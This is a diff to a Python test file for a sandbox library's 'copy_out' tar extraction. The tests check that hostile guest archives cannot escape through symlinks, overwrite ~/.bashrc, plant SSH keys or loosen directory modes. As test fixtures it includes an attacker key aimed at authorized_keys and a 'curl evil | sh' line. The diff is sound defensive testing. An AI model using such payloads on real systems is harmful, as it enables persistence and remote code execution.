@@ -19,7 +19,7 @@ import pytest
 import zstandard
 
 import boxvm
-from boxvm.errors import ArchiveError, ImageError
+from boxvm.errors import ArchiveError, ImageError, InvalidArgument
 from boxvm.images import oci
 from boxvm.tarstream import receive_tree
 from tests.test_images import build_layout
@@ -126,8 +126,9 @@ async def _chunks(data: bytes, size: int = 64 << 10) -> AsyncIterator[bytes]:
         yield data[i : i + size]
 
 
-def _receive(data: bytes, dest: Path) -> None:
-    asyncio.run(receive_tree(_chunks(data), dest))
+def _receive(data: bytes, dest: Path, box_path: str = "/root/tree") -> None:
+    """As ``copy_out(box_path, dest)`` receives it (into ``dest/tree`` if ``dest`` is a directory)."""
+    asyncio.run(receive_tree(_chunks(data), dest, box_path))
 
 
 def _peak_rss_mib() -> float:
@@ -166,16 +167,50 @@ def test_hostile_copy_out_to_a_new_name_leaves_nothing(tmp_path: Path, outside: 
 
 def test_copy_out_never_writes_through_a_link_already_in_the_destination(tmp_path: Path, outside: Path) -> None:
     dest = tmp_path / "dest"
-    dest.mkdir()
-    (dest / "out").symlink_to(outside)
-    (dest / "file").symlink_to(outside / "secret")
+    (dest / "tree").mkdir(parents=True)  # a second copy_out of /root/tree merges into dest/tree
+    (dest / "tree" / "out").symlink_to(outside)
+    (dest / "tree" / "file").symlink_to(outside / "secret")
     with pytest.raises(ArchiveError, match="symlink"):
-        _receive(_tar(lambda t: _add(t, "out/secret", b"owned\n")), dest)
-    _receive(_tar(lambda t: _add(t, "file", b"replaced\n")), dest)  # the link is replaced, not followed
-    assert not (dest / "file").is_symlink() and (dest / "file").read_text() == "replaced\n"
+        _receive(_tar(lambda t: _add(t, "tree/out/secret", b"owned\n")), dest)
+    _receive(_tar(lambda t: _add(t, "tree/file", b"replaced\n")), dest)  # the link is replaced, not followed
+    assert not (dest / "tree/file").is_symlink() and (dest / "tree/file").read_text() == "replaced\n"
     with pytest.raises(ArchiveError, match="did not write"):  # a file of the caller's is no link target
-        _receive(_tar(lambda t: _add(t, "alias", type=tarfile.LNKTYPE, linkname="file")), dest)
-    assert sorted(p.name for p in dest.iterdir()) == ["file", "out"]
+        _receive(_tar(lambda t: _add(t, "tree/alias", type=tarfile.LNKTYPE, linkname="tree/file")), dest)
+    assert sorted(p.name for p in (dest / "tree").iterdir()) == ["file", "out"]
+
+
+def test_copy_out_into_a_directory_writes_only_under_the_copied_name(tmp_path: Path, outside: Path) -> None:
+    """``copy_out("/root/report", home)``: whatever names the guest's stream uses, it cannot
+    write ``home/.bashrc`` or ``home/.ssh/authorized_keys``, nor loosen ``home/.ssh``."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True, mode=0o700)
+    (home / ".bashrc").write_text("mine\n")
+    data = _tar(
+        lambda t: _add(t, ".ssh", type=tarfile.DIRTYPE, mode=0o777),
+        lambda t: _add(t, ".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n"),
+        lambda t: _add(t, ".bashrc/x", b"curl evil | sh\n"),
+    )
+    _receive(data, home, "/root/report")
+    assert (home / ".bashrc").read_text() == "mine\n"
+    assert list((home / ".ssh").iterdir()) == [] and stat.S_IMODE((home / ".ssh").stat().st_mode) == 0o700
+    assert sorted(p.name for p in home.iterdir()) == [".bashrc", ".ssh", "report"]  # all of it under report/
+    assert (home / "report" / "authorized_keys").read_bytes() == b"ssh-ed25519 AAAA attacker\n"
+    with pytest.raises(ArchiveError, match="replace a directory"):  # a file named like the directory
+        _receive(_tar(lambda t: _add(t, ".bashrc", b"curl evil | sh\n")), home, "/root/report")
+    assert (home / ".bashrc").read_text() == "mine\n"
+    existing = home / "report"
+    os.chmod(existing, 0o700)
+    _receive(_tar(lambda t: _add(t, "report", type=tarfile.DIRTYPE, mode=0o777)), home, "/root/report")
+    assert stat.S_IMODE(existing.stat().st_mode) == 0o700  # a directory it did not create keeps its mode
+    with pytest.raises(InvalidArgument):
+        _receive(data, home, "/")
+
+
+def test_copy_out_bounds_entries_and_depth(tmp_path: Path, outside: Path) -> None:
+    deep = "tree/" + "d/" * 300 + "f"
+    with pytest.raises(ArchiveError, match="nested"):
+        _receive(_tar(lambda t: _add(t, deep, b"x")), tmp_path / "dest")
+    assert not (tmp_path / "dest").exists()
 
 
 def test_copy_out_refuses_devices_and_fifos(tmp_path: Path, outside: Path) -> None:
@@ -272,7 +307,7 @@ def test_huge_extended_header_from_a_guest_is_refused_fast(tmp_path: Path, outsi
     _reset_peak()
     before, t0 = _peak_rss_mib(), time.monotonic()
     with pytest.raises(ArchiveError, match="over the limit"):
-        asyncio.run(receive_tree(_bomb_stream(kind), tmp_path / "dest"))
+        asyncio.run(receive_tree(_bomb_stream(kind), tmp_path / "dest", "/root/tree"))
     assert time.monotonic() - t0 < 5
     assert _peak_rss_mib() - before < 100
     assert list((tmp_path / "dest").iterdir()) == []
